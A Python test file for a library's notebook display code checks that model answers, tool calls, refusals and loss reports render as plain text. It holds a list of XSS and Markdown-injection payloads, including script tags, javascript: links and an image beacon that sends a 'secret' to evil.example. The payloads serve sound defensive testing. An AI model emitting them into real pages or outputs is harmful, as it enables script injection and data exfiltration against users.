"""What a notebook is shown of answers, usages and losses: whatever a model says, it stays text."""

from __future__ import annotations

import re
from html.parser import HTMLParser
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from omnillm.types._display import MAX_CHARS, harmless, html_table, markdown_table
from omnillm.types.enums import EndpointKind, FinishReason, ProviderProtocol, WireFormat
from omnillm.types.message import Message
from omnillm.types.parts import RefusalPart, TextPart, ToolCallPart
from omnillm.types.report import ConversionReport, Loss
from omnillm.types.response import LlmResponse, ResponseMeta
from omnillm.types.usage import PromptCacheUsage, TokenUsage

CHAT = ProviderProtocol.OPENAI_CHAT_COMPLETIONS
SCRIPT = "<script>alert(1)</script>"
BEACON = "![x](https://evil.example/?q=secret)"
HOSTILE = [
    SCRIPT,
    BEACON,
    "<img src=x onerror=alert(1)>",
    "</div><iframe src=https://evil.example></iframe>",
    "[click](javascript:alert(1))",
    "[click](java&#115;cript:alert(1))",
    "[click]( \tdata:text/html,x)",
    "[a]\n\n[a]: javascript:alert(1)",
    "![a][b]\n\n[b]: https://evil.example/p.png",
    "<https://evil.example>",
    "<!-- x --><b>",
    f"```\ncode\n   ```\n{SCRIPT}",  # a fence may be closed a little indented
    f"  ```\n{SCRIPT}\n",
    f"- a\n  ```\n{SCRIPT}\n",  # a block in a list ends with the list
    f"> ```\n{SCRIPT}",
    f"````\n```\n````\n{SCRIPT}\n",
    f"x\u2028```\n{SCRIPT}",  # no end of a line to a renderer
    f"``` a`b\n{SCRIPT}",
    f"~~~\n```\n~~~\n{SCRIPT}",
    f"```\r{SCRIPT}\r```\r{SCRIPT}",
    f"`{SCRIPT}",
]


def outside(markdown: str) -> str:
    """Give what stands in no block of code, by the strictest reading: fences at the margin, closed by the very same."""
    return re.sub(r"^(`{3,})[^`\n]*\n(?:.*\n)*?\1$", "", markdown, flags=re.MULTILINE)


def is_harmless(markdown: str) -> bool:
    rest = outside(markdown)
    return not re.search(r"<[A-Za-z/!?]|!\[|\]\((?!https?://|mailto:|#)|\]:|^ {0,3}(```|~~~)", rest, re.MULTILINE)


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_words_stay_words(text: str) -> None:
    """Nothing that a model says becomes HTML, a picture that is loaded, or a link that runs something."""
    assert is_harmless(harmless(text)), harmless(text)


@given(st.text(alphabet="`~<>![]():ab/ \n\r\t#\u2028-", max_size=60))
def test_no_arrangement_of_marks_is_harmful(text: str) -> None:
    """Whatever is written with the marks of Markdown, what is in no block of code has no tag, picture or definition."""
    rest = outside(harmless(text))
    assert not re.search(r"<[A-Za-z/!?]|!\[|\]:|^ {0,3}(```|~~~)", rest, re.MULTILINE)


MARKS = st.text(alphabet="`~<>![]():ab/ \n\r\t#\u2028-1.>", max_size=60)
PIECES = st.lists(st.sampled_from([*HOSTILE, "\n", "```", "~~~", "`", "  ", "    ", "- ", "> ", "1. ", "a"]), max_size=8).map(
    "".join
)
GOOD_TAGS = {
    "p", "em", "strong", "code", "pre", "ul", "ol", "li", "blockquote", "h1", "h2", "h3", "h4", "h5", "h6", "hr", "br", "a",
    "table", "thead", "tbody", "tr", "th", "td", "s",
}  # fmt: skip


@given(MARKS | PIECES)
def test_a_real_renderer_finds_nothing_either(text: str) -> None:
    """Rendered by markdown-it with HTML let through, no arrangement of hostile pieces has a tag that loads or runs something."""
    markdown_it = pytest.importorskip("markdown_it")
    for preset in ("commonmark", "js-default"):
        found = Tags(markdown_it.MarkdownIt(preset, {"html": True}).render(harmless(text)))
        assert found.tags <= GOOD_TAGS, text
        assert not [link for link in found.links if not link.startswith(("https://", "http://", "mailto:", "#"))]


@given(MARKS | PIECES | st.sampled_from([f"```\n{SCRIPT}\n```", f"a ``` b\n```\n{SCRIPT}\n```"]))
def test_no_part_of_an_answer_is_more_than_words(text: str) -> None:
    """A refusal, a tool's name and its arguments may hold fences of code, and a cell or a line still shows words."""
    markdown_it = pytest.importorskip("markdown_it")
    shown = answer(RefusalPart(text), ToolCallPart("c", text, text))._repr_markdown_()
    for preset in ("commonmark", "js-default"):
        found = Tags(markdown_it.MarkdownIt(preset, {"html": True}).enable("table").render(shown))
        assert found.tags <= GOOD_TAGS, text


@pytest.mark.parametrize(
    "text",
    [
        "# A heading\n\n- **one**\n- *two*\n\n| a | b |\n| --- | --- |\n| 1 | 2 |",
        "a < b and c <= d",
        "[docs](https://example.com/a) and [mail](mailto:a@example.com)",
        "```python\nif a<b: print('<b>')\n```",
        "an `inline` span",
    ],
)
def test_good_words_stay_as_they_are(text: str) -> None:
    """Headings, lists, tables, links to the web and code come through unchanged."""
    assert harmless(text) == text


def test_a_block_that_is_not_closed_is_closed() -> None:
    """An answer that breaks off in a block of code, as a stream's does meanwhile, is shown with its end."""
    assert harmless("```python\nprint(1)") == "```python\nprint(1)\n```"


def test_an_answer_without_end_has_one() -> None:
    """A page is not made of more than so many characters."""
    assert len(harmless("x" * MAX_CHARS * 2)) < MAX_CHARS + 10


def answer(*parts: Any, **meta: Any) -> LlmResponse:
    return LlmResponse(
        (Message("assistant", parts),), TokenUsage(1200, 5), "m", CHAT, FinishReason.STOP, meta=ResponseMeta(**meta)
    )


def test_an_answer() -> None:
    """An answer is shown as Markdown with what it took: the model, tokens, cost, end and key; no time, no address."""
    shown = answer(TextPart("**bold**"), cost_usd=0.0012, key_label="k1", latency=3.0)._repr_markdown_()
    assert shown == "**bold**\n\n`m · 1,200 + 5 tokens · $0.001200 · stop · key k1`"


def test_what_else_an_answer_has() -> None:
    """Tools that are called, a refusal and what a translation lost are shown, and are as harmless."""
    losses = (Loss("/generation/seed", f"the wire has none {SCRIPT}"),)
    parts = (RefusalPart(f"no {SCRIPT}"), ToolCallPart("c", f"a|b{SCRIPT}", {"x": SCRIPT}))
    shown = answer(*parts, request_losses=losses)._repr_markdown_()
    assert "/generation/seed" in shown
    assert "**Refused:**\n\nno" in shown
    assert "a\\|b" in shown
    assert is_harmless(shown)


def test_a_models_name_is_no_markup() -> None:
    """What a provider calls its model is shown as text."""
    shown = LlmResponse((), TokenUsage(), f"m`{SCRIPT}\n{SCRIPT}`", CHAT)._repr_markdown_()
    assert shown.count("`") == 2
    assert "\n" not in shown


class Tags(HTMLParser):
    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.links: list[str] = []
        self.text = ""
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: Any) -> None:
        self.tags.add(tag)
        self.links += [value for name, value in attrs if name in ("href", "src")]

    def handle_data(self, data: str) -> None:
        self.text += data


TABLE = {"table", "thead", "tbody", "tr", "th", "td"}


def test_a_usage() -> None:
    """A usage is shown as a table of what was counted, and by whom."""
    usage = TokenUsage(1200, 5, reasoning_tokens=2, prompt_cache=PromptCacheUsage(cached_input_tokens=7), estimated=True)
    found = Tags(usage._repr_html_())
    assert found.tags == TABLE
    assert "prompt1,200completion5total1,205reasoning2cached7counted byour estimate" in found.text
    assert "| prompt | 1,200 |" in usage._repr_markdown_()


def test_a_report() -> None:
    """A report is shown as a table of what was lost; with nothing but its own tags in it."""
    report = ConversionReport(
        1, EndpointKind.MESSAGES, WireFormat.ANTHROPIC_MESSAGES, True, losses=(Loss("/a", f"{SCRIPT} '\" &"),)
    )
    found = Tags(report._repr_html_())
    assert (found.tags, SCRIPT in found.text) == (TABLE, True)
    assert is_harmless(report._repr_markdown_())
    assert "nothing was lost" in ConversionReport(1, EndpointKind.MESSAGES, WireFormat.ANTHROPIC_MESSAGES, False)._repr_html_()


@given(st.text(), st.text())
def test_a_table_has_its_own_tags_alone(head: str, cell: str) -> None:
    """Whatever stands in a cell, the table's tags are all there are; in Markdown it keeps its rows."""
    found = Tags(html_table((head,), [(cell,)]))
    assert found.tags == TABLE
    assert len(re.split(r"\r\n|\n|\r", markdown_table((head,), [(cell,)]))) == 3
